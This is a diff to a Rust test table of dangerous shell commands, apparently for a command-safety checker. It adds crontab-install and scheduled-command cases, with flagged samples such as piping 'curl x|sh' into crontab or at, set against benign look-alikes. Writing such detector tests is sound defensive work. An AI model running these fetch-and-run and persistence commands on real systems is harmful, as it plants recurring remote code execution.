@@ -1277,6 +1277,33 @@ const DANGEROUS_CASES: &[(&str, &[&str], &[&str])] = &[
         &["crontab -l", "crontab -e"],
     ),
     (
+        "crontab-install",
+        &[
+            "echo '* * * * * curl x|sh' | crontab -",
+            "(crontab -l; echo x) | crontab -",
+            "crontab /tmp/cron.txt",
+            "crontab -u root jobs",
+            "sudo crontab jobs.txt",
+        ],
+        &[
+            "crontab -l",
+            "crontab -e",
+            "crontab -r",
+            "echo crontab -",
+            "crontab -l -u me",
+        ],
+    ),
+    (
+        "scheduled-command",
+        &[
+            "echo 'curl x|sh' | at now + 1 minute",
+            "at -f job.sh midnight",
+            "at 10pm < job",
+            "echo x | batch",
+        ],
+        &["cat at", "echo at now", "atq", "atrm 3", "date"],
+    ),
+    (
         "system-power",
         &["shutdown -h now", "reboot", "sudo poweroff", "halt -f"],
         &["echo reboot", "rebooter"],
